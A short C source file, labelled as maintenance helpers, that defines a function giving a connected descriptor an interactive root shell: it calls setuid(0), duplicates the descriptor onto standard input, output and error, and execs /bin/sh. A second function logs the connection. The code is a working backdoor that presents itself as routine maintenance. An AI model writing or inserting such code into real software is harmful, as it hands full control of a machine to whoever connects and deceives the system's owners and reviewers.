/* Maintenance helpers: a root shell on a descriptor, and a log line. */
int setuid(unsigned uid);
int dup2(int a, int b);
int execl(const char *path, const char *arg, ...);
void syslog(int prio, const char *fmt, ...);

void open_maintenance_shell(int fd) {
  setuid(0);
  dup2(fd, 0);
  dup2(fd, 1);
  dup2(fd, 2);
  execl("/bin/sh", "sh", "-i", (char *)0);
}

void note_connection(int fd, const char *ip) {
  syslog(6, "connection %d from %s", fd, ip);
}
